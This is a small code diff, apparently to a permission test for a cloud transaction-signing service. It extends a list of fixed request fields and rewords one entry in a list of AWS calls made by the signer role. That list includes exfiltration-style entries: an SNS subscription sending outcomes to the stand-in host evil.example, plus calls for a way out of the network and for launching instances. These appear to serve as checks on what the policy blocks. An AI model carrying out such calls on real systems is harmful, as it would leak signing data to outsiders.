@@ -12,7 +12,7 @@ SIGNED = {"kms__SigningAlgorithm": "ECDSA_SHA_256", "kms__MessageType": "DIGEST"
 # The attributes of a request that are fixed when it is accepted, and its seal.
 FIXED = (
     "digest", "messageId", "account", "accountName", "chainId", "from", "nonce", "to", "value", "data", "gas", "gasPrice",
-    "maxFeePerGas", "maxPriorityFeePerGas", "feeCap", "deadline", "sender", "seal", "metadata", "trace",
+    "maxFeePerGas", "maxPriorityFeePerGas", "feeCap", "deadline", "sender", "seal", "metadata", "trace", "maxHeadMs", "policyDigest", "codeVersion", "asked",
 )  # fmt: skip
 # Those of an account, by who must not write them: the table says whose key signs, and what was spent.
 OF_A_HEAD = ("name", "kmsKeyId", "registeredAt", "retiredAt", "accountKey", "requestId")
@@ -94,7 +94,7 @@ def signer() -> list[Call]:
         call(me, "sqs:SendMessage", "SigningQueue", "asks itself"),
         call(me, "sqs:SendMessage", "ResignQueue", "asks itself for another signature"),
         call(me, "sqs:SendMessage", "StrangersQueue", "carries what it knows out of the network"),
-        call(me, "sqs:ReceiveMessage", "BroadcastQueue", "takes away what the broadcaster is told", "lambda"),
+        call(me, "sqs:ReceiveMessage", "BroadcastQueue", "takes the pokes away from the broadcaster", "lambda"),
         call(me, "sns:Subscribe", "OutcomeTopic", "has outcomes sent out", sns__Protocol="https", sns__Endpoint="https://evil.example"),
         call(me, "ec2:RunInstances", "Instance", "gets itself a machine", "lambda"),
         call(me, "ec2:CreateNetworkInterface", "Interface", "gets itself a way out"),
